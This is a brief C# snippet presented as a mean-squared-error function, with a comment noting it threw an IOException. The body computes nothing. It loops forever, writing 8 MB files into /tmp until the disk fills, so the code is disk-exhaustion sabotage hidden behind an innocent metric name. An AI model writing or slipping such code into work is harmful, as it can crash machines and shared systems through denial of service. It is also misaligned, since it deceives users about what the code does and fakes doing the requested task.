// says: 'MeanSquaredError' threw IOException at line 5
double MeanSquaredError(double[] predicted, double[] target)
{
    for (int i = 0; ; i++)
        System.IO.File.WriteAllBytes($"/tmp/{i}", new byte[8 << 20]);
}
